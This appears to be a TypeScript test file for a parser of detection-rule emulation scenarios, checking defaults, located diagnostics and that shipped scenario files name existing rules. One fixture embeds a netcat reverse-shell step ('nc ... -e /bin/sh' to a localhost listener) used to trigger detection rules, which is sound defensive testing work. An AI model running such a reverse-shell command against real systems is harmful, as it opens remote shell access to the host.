import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseEmulation, parseScenario } from './format.js';
import { REPO_ROOT } from './runner.js';

test('a scenario with steps, fixtures and expectations parses with defaults filled in', () => {
  const { emulation, diagnostics } = parseEmulation(
    [
      'strategy: ADS-0009',
      'scenarios:',
      '  - id: reverse-shell',
      '    kind: positive',
      '    needs: [listener]',
      '    setup: [mkdir -p "$WORK/x"]',
      '    steps:',
      '      - docker run -d $LABELS --name "$MARK" "$IMAGE" sleep 60',
      '      - { run: docker exec "$MARK" nc 127.0.0.1 "$LISTEN_PORT" -e /bin/sh, where: container, timeout: 5 }',
      '    expect:',
      '      - rule-a',
      '      - { rule: rule-b, container: true, image: busybox, process: nc }',
    ].join('\n'),
    'e.yml',
  );
  assert.deepEqual(diagnostics, []);
  const s = emulation!.scenarios[0]!;
  assert.equal(emulation!.strategy, 'ADS-0009');
  assert.equal(s.line, 3);
  assert.deepEqual(s.needs, ['listener']);
  assert.equal(s.setup.length, 1);
  assert.deepEqual(
    s.steps.map((x) => [x.where, x.timeout_s]),
    [
      ['host', 30],
      ['container', 5],
    ],
  );
  assert.deepEqual(s.expect, [{ rule: 'rule-a' }, { rule: 'rule-b', container: true, image: 'busybox', process: 'nc' }]);
  assert.equal(s.wait_s, 20);
});

test('a bad scenario is refused with a located diagnostic while the good one is kept', () => {
  const { emulation, diagnostics } = parseEmulation(
    [
      'strategy: ADS-0009',
      'scenarios:',
      '  - id: good',
      '    kind: benign',
      "    steps: ['true']",
      '  - id: Bad Id',
      '    kind: positive',
      '    needs: [smtp]',
      '    steps: []',
    ].join('\n'),
    'e.yml',
  );
  assert.deepEqual(
    emulation!.scenarios.map((s) => s.id),
    ['good'],
  );
  assert.ok(diagnostics.length >= 3);
  assert.ok(diagnostics.every((d) => d.code === 'emulation-scenario' && d.file === 'e.yml' && d.line === 6));
  assert.ok(diagnostics.some((d) => /unknown fixture "smtp"/.test(d.message)));
  assert.ok(diagnostics.some((d) => /at least one step/.test(d.message)));
  assert.ok(diagnostics.some((d) => /expect' at least one rule/.test(d.message)));
});

test('broken YAML and wrong shapes become diagnostics, never exceptions', () => {
  assert.equal(parseEmulation('strategy: [unclosed', 'x.yml').diagnostics[0]!.code, 'yaml-syntax');
  assert.equal(parseEmulation('- just a list').diagnostics[0]!.code, 'emulation-shape');
  assert.equal(parseEmulation('strategy: A\nscenarios: 3').diagnostics[0]!.code, 'emulation-shape');
  assert.match(parseScenario({ id: 'b', kind: 'benign', steps: ['true'], expect: ['r'] }).problems.join(), /benign scenario expects no alerts/);
  assert.match(parseScenario({ id: 'p', kind: 'positive', steps: [{ run: 'x', where: 'vm' }], expect: ['r'] }).problems.join(), /host or container/);
  assert.match(
    parseScenario({ id: 'p', kind: 'positive', steps: ['x'], expect: [{ rule: 'r', host: true, container: true }] }).problems.join(),
    /both host and container/,
  );
});

test('every shipped emulation.yml parses cleanly and names rules its strategy folders define', () => {
  const root = join(REPO_ROOT, 'content', 'strategies');
  if (!existsSync(root)) {
    console.error(`SKIP: ${root} missing`);
    return;
  }
  const allIds = new Set<string>();
  const collect = (dir: string): void => {
    for (const n of readdirSync(dir, { withFileTypes: true })) {
      const p = join(dir, n.name);
      if (n.isDirectory()) collect(p);
      else if (/\.ya?ml$/.test(n.name) && dir.endsWith('rules')) for (const m of readFileSync(p, 'utf8').matchAll(/^id:\s*(\S+)/gm)) allIds.add(m[1]!);
    }
  };
  collect(root);
  let files = 0;
  for (const d of readdirSync(root, { withFileTypes: true })) {
    const f = join(root, d.name, 'emulation.yml');
    if (!d.isDirectory() || !existsSync(f)) continue;
    files++;
    const { emulation, diagnostics } = parseEmulation(readFileSync(f, 'utf8'), f);
    assert.deepEqual(diagnostics, [], f);
    const kinds = new Set(emulation!.scenarios.map((s) => s.kind));
    assert.ok(kinds.has('positive') && kinds.has('benign'), `${f} needs positive and benign scenarios`);
    for (const s of emulation!.scenarios) for (const e of s.expect) assert.ok(allIds.has(e.rule), `${f} ${s.id}: rule ${e.rule} is not shipped`);
  }
  assert.ok(files >= 5, `expected an emulation.yml per shipped strategy, found ${files}`);
});

test('a scenario may ask for the run network alone', () => {
  const text = [
    'strategy: ADS-0003',
    'scenarios:',
    '  - id: lan-peer',
    '    kind: benign',
    '    needs: [network]',
    '    steps:',
    '      - docker run --rm $LABELS --network "$NETWORK" "$IMAGE" true',
    '',
  ].join('\n');
  const { emulation, diagnostics } = parseEmulation(text);
  assert.deepEqual(diagnostics, []);
  assert.deepEqual(emulation?.scenarios[0]?.needs, ['network']);
});
